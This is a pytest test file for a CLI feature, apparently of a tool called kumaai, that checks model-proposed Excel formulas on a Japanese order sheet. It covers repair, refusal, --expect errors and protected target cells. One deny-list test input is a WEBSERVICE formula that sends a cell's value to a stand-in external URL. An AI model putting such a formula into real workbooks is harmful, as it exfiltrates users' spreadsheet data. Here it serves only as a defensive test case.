"""A formula by a model: repaired, refused or written, but never unverified."""

from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook.protection import WorkbookProtection
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula

from tests.faults.server import Misbehaving, ok
from tests.program import Outcome, kumaai


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """Prices and counts, and an empty column for their products."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "注文"
    for row in (["品名", "単価", "数量", "金額"], ["机", 12000, 3], ["椅子", 4500, 10], ["棚", 8000, 2]):
        sheet.append(row)
    workbook.save(tmp_path / "注文.xlsx")
    return tmp_path


def ask(folder: Path, *answers: dict[str, object], options: tuple[str, ...] = ()) -> Outcome:
    """One run against a server that gives these answers in turn."""
    script = [
        ok(json.dumps({"explanation": "積", "assumptions": []} | answer, ensure_ascii=False))
        for answer in answers
    ]
    with Misbehaving(*script) as server:
        environ = {"KUMAAI_BASE_URL": server.base_url, "KUMAAI_MODEL": "m"}
        arguments = (
            "excel-formula",
            "注文.xlsx",
            "単価に数量を掛けた金額",
            "--cell",
            "D2:D4",
            "--json",
            *options,
        )
        return kumaai(folder, *arguments, environ=environ)


def test_a_right_formula_is_computed_and_written(book: Path) -> None:
    """The values of all rows are in the answer and in the workbook; the rest of it is as it was."""
    done = ask(book, {"formula": "=B2*C2"}, options=("-o", "out.xlsx"))
    assert done.status == 0, done.stderr
    answer = done.envelope["answer"]
    assert (answer["formula"], answer["verdict"]) == ("=B2*C2", "verified")
    assert [value["value"] for value in answer["values"]] == [36000, 45000, 16000]
    written = openpyxl.load_workbook(book / "out.xlsx")
    assert written["注文"]["D4"].value == "=B4*C4"
    assert written["注文"]["A2"].value == "机"
    assert "生成AI利用記録" in written.sheetnames


@pytest.mark.parametrize(
    "wrong",
    [
        "=B2*",
        "=NOSUCH(B2)",
        "=B2*Z9999999",
        '=WEBSERVICE("http://example.com/"&B2)',
        "=D2+1",
        "=無い表[単価]",
    ],
)
def test_a_formula_that_fails_is_repaired(book: Path, wrong: str) -> None:
    """Syntax, unknown functions, dangling references, cycles and the deny list go back to the model with the reason."""
    done = ask(book, {"formula": wrong}, {"formula": "=B2*C2"})
    assert done.status == 0, done.stderr
    assert done.envelope["usage"]["calls"] == 2


def test_an_example_that_is_not_met_is_refused(book: Path) -> None:
    """A formula that computes something else than --expect says is status 8 after three repairs, and the record is kept."""
    done = ask(book, *[{"formula": "=B2+C2"}] * 4, options=("--expect", "D2=36000", "-o", "out.xlsx"))
    assert done.status == 8
    assert done.envelope["usage"]["calls"] == 4
    assert done.envelope["error"]["code"] == "answer.formula"
    assert "D2 must be '36000' but is 12003" in done.envelope["error"]["message"]
    assert not (book / "out.xlsx").exists()
    record = kumaai(book, "log", "show", done.envelope["run"], "--json").envelope
    assert record["status"] == 8
    assert "=B2+C2" in str(record["answer_raw"])


def test_no_formula_is_an_answer(book: Path) -> None:
    """A model that says the columns do not suffice is believed at once."""
    done = ask(book, {"formula": "", "explanation": "税率の列がありません。"})
    assert (done.status, done.envelope["error"]["code"]) == (8, "answer.no_formula")
    assert "税率の列がありません" in done.envelope["error"]["message"]
    assert done.envelope["usage"]["calls"] == 1


def by_rules(folder: Path, *options: str, cell: str = "D2:D4", request: str = "単価×数量") -> Outcome:
    """One run of the rules."""
    return kumaai(
        folder,
        "excel-formula",
        "注文.xlsx",
        request,
        "--cell",
        cell,
        "--provider",
        "rules",
        "--json",
        *options,
    )


@pytest.mark.parametrize(
    ("options", "code", "shown"),
    [
        (("--expect", "x"), "usage.expect", "x is not"),
        (("--expect", "D2"), "usage.expect", "D2 is not of the form"),
        (("--expect", "単価=3"), "usage.expect", "単価=3 is not of the form"),
        (("--expect", "E2=3"), "usage.expect", "E2 is not one of the cells D2:D4"),
    ],
)
def test_a_wrong_example_is_shown_as_it_was_typed(
    book: Path, options: tuple[str, ...], code: str, shown: str
) -> None:
    """Neither an equals sign is added, nor is an example outside the range left without a word."""
    error = by_rules(book, *options).envelope["error"]
    assert error["code"] == code
    assert error["message"].startswith(shown)
    assert "D2:D4" in error["message"] or "F2=1200" in error["hint"]


@pytest.mark.parametrize("cell", ["x", "A1:XFD1048576"])
def test_a_range_that_cannot_be_filled_has_a_hint(book: Path, cell: str) -> None:
    """What is no range, or too large a one, is told with what to do."""
    error = by_rules(book, cell=cell).envelope["error"]
    assert error["code"] == "usage.cell"
    assert error["hint"]


def test_formulas_that_contradict_the_example_are_named(book: Path) -> None:
    """The user learns that formulas were found, not that there are none."""
    done = by_rules(book, "--expect", "D2=5")
    error = done.envelope["error"]
    assert (done.status, error["code"]) == (8, "answer.no_formula")
    assert error["message"] == "None of the formulas found gives the example values: =B2*C2"
    assert "--expect" in error["hint"]


def test_faults_are_told_in_the_user_language(book: Path) -> None:
    """The first sentence is the user's; the detail for the model stands behind it."""
    done = ask(book, *[{"formula": "=B2*"}] * 3)
    message = done.envelope["error"]["message"]
    assert done.status == 8
    assert (
        "The formula is not written as Excel reads it. (formula.syntax: The formula ends after *" in message
    )


def place(book: Path, state: str) -> None:
    """Make the target cells of the workbook unfit for a formula."""
    workbook = openpyxl.load_workbook(book / "注文.xlsx")
    sheet = workbook["注文"]
    if state == "occupied":
        sheet["D3"] = "済"
    elif state == "merged":
        sheet.merge_cells("D2:D4")
    elif state == "protected":
        sheet.protection.enable()
    elif state == "array":
        sheet["D2"] = ArrayFormula("D2:D4", "=B2:B4*2")
    elif state == "data_table":
        sheet["D2"] = DataTableFormula("D2:D4", dt2D=False, dtr=False, r1="F1")
    elif state == "structure":
        workbook.security = WorkbookProtection(lockStructure=True)
    workbook.save(book / "注文.xlsx")


@pytest.mark.parametrize("provider", ["rules", "model"])
@pytest.mark.parametrize(
    ("state", "code"),
    [
        ("occupied", "output.occupied"),
        ("merged", "output.merged"),
        ("protected", "output.protected"),
        ("array", "output.array"),
        ("data_table", "output.data_table"),
        ("structure", "output.protected"),
    ],
)
def test_cells_that_must_not_be_written_are_refused(book: Path, state: str, code: str, provider: str) -> None:
    """Cells in use, merged, protected or of an array or data table end in status 11 and no file."""
    place(book, state)
    before = (book / "注文.xlsx").read_bytes()
    done = (
        by_rules(book, "-o", "out.xlsx")
        if provider == "rules"
        else ask(book, {"formula": "=B2*C2"}, options=("-o", "out.xlsx"))
    )
    error = done.envelope["error"]
    assert (done.status, error["code"]) == (11, code), error
    assert error["hint"]
    assert not (book / "out.xlsx").exists()
    assert (book / "注文.xlsx").read_bytes() == before
